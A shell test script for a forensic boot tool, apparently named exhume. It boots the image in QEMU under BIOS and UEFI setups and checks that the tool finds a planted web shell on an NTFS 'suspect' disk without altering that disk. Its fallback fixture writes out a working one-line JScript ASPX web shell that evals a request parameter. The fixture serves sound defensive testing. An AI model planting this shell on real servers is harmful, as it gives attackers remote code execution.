#!/bin/sh
# check-image.sh: boot build/image/exhume.img in qemu, unattended, against
# an Exchange-shaped NTFS suspect disk; read the bundle back from the
# stick's exFAT partition without mounting it; check it and that the
# suspect disk did not change.  TAP output; exit status 1 on failure.
#
# Runs (CHECK_IMAGE_RUNS, default "bios uefi-sb uefi"):
#   bios     SeaBIOS -> syslinux, suspect on SATA (AHCI)
#   uefi-sb  OVMF with Microsoft keys and Secure Boot on -> shim -> grub,
#            suspect on NVMe
#   uefi     OVMF without Secure Boot, suspect on virtio
# Environment: IMAGE_OUT (build/image), EXHUME_REL (build/rel/exhume, for
# `exhume verify`), MKFIXTURE (build/tools/mkfixture), BOOT_TIMEOUT (300).
set -u
here=$(cd "$(dirname "$0")" && pwd)
top=$(cd "$here/.." && pwd)
out=${IMAGE_OUT:-$top/build/image}
img=$out/exhume.img
exhume=${EXHUME_REL:-$top/build/rel/exhume}
mkfixture=${MKFIXTURE:-$top/build/tools/mkfixture}
runs=${CHECK_IMAGE_RUNS:-bios uefi-sb uefi}
tmo=${BOOT_TIMEOUT:-300}
evid_start=264192	# p2 start sector, see assemble.sh
work=$out/check
export MTOOLS_SKIP_CHECK=1
t_start=$(date +%s)

n=0 failed=0
ok() { n=$((n + 1)); echo "ok $n - $*"; }
notok() { n=$((n + 1)); failed=$((failed + 1)); echo "not ok $n - $*"; }
check() {	# DESCRIPTION COMMAND...: ok if the command succeeds
	d=$1; shift
	if "$@" >/dev/null 2>&1; then ok "$d"; else notok "$d"; fi
}

[ -f "$img" ] || { echo "Bail out! $img missing: make image"; exit 1; }
rm -rf "$work" && mkdir -p "$work"

# The suspect disk.  mkfixture builds nested directories; without it,
# ntfscp can only write the root directory, so the shell lands there.
suspect=$work/suspect.img
if [ -x "$mkfixture" ]; then
	"$mkfixture" "$here/suspect.spec" "$suspect" >/dev/null ||
	    { echo "Bail out! mkfixture failed"; exit 1; }
	expect='aspnet_client.*shell\.aspx'
else
	echo "# no $mkfixture: fallback suspect disk with the shell in the root"
	truncate -s 64M "$work/part.img"
	mkntfs -F -Q -q -L EXCH-C -p 2048 -H 255 -S 63 "$work/part.img" 2>/dev/null
	printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["exhume"],"unsafe");%%>\r\n' \
	    > "$work/shell.aspx"
	ntfscp -f "$work/part.img" "$work/shell.aspx" /shell.aspx >/dev/null
	truncate -s 66M "$suspect"
	printf 'label: dos\nstart=2048, type=7\n' | sfdisk -q "$suspect"
	dd if="$work/part.img" of="$suspect" bs=1M seek=1 conv=notrunc,sparse status=none
	rm -f "$work/part.img" "$work/shell.aspx"
	expect='shell\.aspx'
fi
suspect_sha=$(sha256sum "$suspect" | cut -d' ' -f1)
echo "# suspect disk sha256 $suspect_sha"

accel="-accel tcg"
if [ -d /sys/module/kvm_intel ] || [ -d /sys/module/kvm_amd ]; then
	accel="-accel kvm -cpu host"
fi
echo "# accelerator: $accel"

# patch IMG: add the unattended options to every kernel command line
patch_cfg() {
	for f in ::/syslinux/syslinux.cfg ::/EFI/debian/grub.cfg; do
		mtype -i "$1@@1M" "$f" |
		    sed 's/exhume\.bootid=[^ ]*/& exhume.auto=1 exhume.case=CI-1 exhume.examiner=ci/' \
		    > "$work/cfg" &&
		mcopy -o -i "$1@@1M" "$work/cfg" "$f" || return 1
	done
}

# bundle_text FILE: the text of the bundle's members, whatever the archive
bundle_text() {
	tar -xOf "$1" 2>/dev/null || unzip -p "$1" 2>/dev/null || cat "$1"
}

boot() {	# NAME
	name=$1 stick=$work/$1.img log=$work/$1.log
	cp --sparse=always "$img" "$stick"
	check "$name: patch boot configs for unattended mode" patch_cfg "$stick"
	case $name in
	bios)	fw="-machine pc"
		disk="-device ahci,id=ahci -device ide-hd,drive=d0,bus=ahci.0" ;;
	uefi-sb) cp /usr/share/OVMF/OVMF_VARS_4M.ms.fd "$work/$name.vars"
		fw="-machine q35,smm=on -global driver=cfi.pflash01,property=secure,value=on
		    -drive if=pflash,format=raw,unit=0,readonly=on,file=/usr/share/OVMF/OVMF_CODE_4M.ms.fd
		    -drive if=pflash,format=raw,unit=1,file=$work/$name.vars"
		disk="-device nvme,drive=d0,serial=exhume0" ;;
	uefi)	cp /usr/share/OVMF/OVMF_VARS_4M.fd "$work/$name.vars"
		fw="-machine q35
		    -drive if=pflash,format=raw,unit=0,readonly=on,file=/usr/share/OVMF/OVMF_CODE_4M.fd
		    -drive if=pflash,format=raw,unit=1,file=$work/$name.vars"
		disk="-device virtio-blk-pci,drive=d0" ;;
	*)	notok "$name: unknown run"; return ;;
	esac
	t0=$(date +%s)
	# shellcheck disable=SC2086
	timeout "$tmo" qemu-system-x86_64 $accel $fw -m 1024 -smp 2 \
	    -display none -monitor none -serial "file:$log" -no-reboot -net none \
	    -device qemu-xhci,id=xhci \
	    -drive if=none,id=stick,file="$stick",format=raw \
	    -device usb-storage,bus=xhci.0,drive=stick,bootindex=0,removable=on \
	    -drive if=none,id=d0,file="$suspect",format=raw $disk \
	    >"$work/$name.qemu" 2>&1
	rc=$? secs=$(($(date +%s) - t0))
	if [ $rc = 0 ]; then ok "$name: qemu powered off by itself ($secs s)"
	else notok "$name: qemu exit status $rc after $secs s (124 = timeout); log $log"; fi
	tr -d '\r' < "$log" > "$log.txt"
	check "$name: boot stick found" grep -q 'exhume: boot stick /dev/' "$log.txt"
	if grep -q 'exhume: disk /dev/.* ro=0' "$log.txt"; then
		notok "$name: every disk read-only before the evidence write"
	else
		check "$name: every disk read-only before the evidence write" \
		    grep -q 'exhume: disk /dev/.* ro=1' "$log.txt"
	fi
	check "$name: EXHUME-RESULT printed" grep -q 'EXHUME-RESULT:' "$log.txt"
	if grep -q 'EXHUME-RESULT: failed' "$log.txt"; then
		notok "$name: exhume auto succeeded"
	fi
	grep 'EXHUME-RESULT:\|EXHUME-BUNDLE:' "$log.txt" | sed 's/^/# /'
	[ "$name" = uefi-sb ] &&
	    check "$name: kernel reports Secure Boot enabled" \
	    grep -q 'secureboot: Secure boot enabled' "$log.txt"
	done_s=$(sed -n 's/.*exhume: done after \([0-9.]*\) s since boot.*/\1/p' "$log.txt")
	echo "# $name: boot-to-result ${done_s:-?} s since kernel start, $secs s qemu wall time"

	# Read the bundle back from the exFAT partition, without mounting.
	bname=$(sed -n 's/.*EXHUME-BUNDLE: \([^ ]*\) SHA256 \([0-9a-f]*\).*/\1/p' "$log.txt" | tail -n 1)
	bsha=$(sed -n 's/.*EXHUME-BUNDLE: \([^ ]*\) SHA256 \([0-9a-f]*\).*/\2/p' "$log.txt" | tail -n 1)
	inode=$(fls -f exfat -o $evid_start "$stick" 2>/dev/null |
	    awk -v f="$bname" -F'\t' '$2 == f { split($1, a, " "); sub(":", "", a[2]); print a[2] }')
	bundle=$work/$name.bundle
	if [ -n "$bname" ] && [ -n "$inode" ] &&
	    icat -f exfat -o $evid_start "$stick" "$inode" > "$bundle"; then
		ok "$name: bundle $bname read back from the evidence partition"
	else
		notok "$name: bundle read back from the evidence partition"
		fls -f exfat -o $evid_start "$stick" 2>&1 | sed 's/^/# fls: /'
		return
	fi
	check "$name: bundle SHA-256 matches the printed one" \
	    test "$(sha256sum "$bundle" | cut -d' ' -f1)" = "$bsha"
	if [ -x "$exhume" ] && "$exhume" verify --help >/dev/null 2>&1; then
		check "$name: exhume verify accepts the bundle" "$exhume" verify "$bundle"
	else
		echo "# $name: no 'exhume verify' in $exhume; hash check only"
	fi
	bundle_text "$bundle" > "$bundle.txt"
	check "$name: web shell finding in the bundle" grep -Eq "$expect" "$bundle.txt"
	case $name in
	bios) check "$name: firmware notes say BIOS" grep -q 'boot_mode: BIOS' "$bundle.txt" ;;
	uefi-sb) check "$name: firmware notes say Secure Boot on" grep -q 'secure_boot: enabled' "$bundle.txt" ;;
	uefi) check "$name: firmware notes say UEFI" grep -q 'boot_mode: UEFI' "$bundle.txt" ;;
	esac
	if [ -f "$work/$name.vars" ]; then
		if strings -el "$work/$name.vars" | grep -q '^SbatLevel$'; then
			echo "# $name: footprint: shim left SbatLevel in the NVRAM (expected, documented)"
		else
			echo "# $name: no SbatLevel in the NVRAM after boot"
		fi
	fi
	check "$name: suspect disk SHA-256 unchanged" \
	    test "$(sha256sum "$suspect" | cut -d' ' -f1)" = "$suspect_sha"
	rm -f "$stick"
}

for r in $runs; do boot "$r"; done
total=$(($(date +%s) - t_start))
echo "# check-image: $total s in total"
echo "1..$n"
[ $failed = 0 ] || { echo "# $failed of $n failed"; exit 1; }
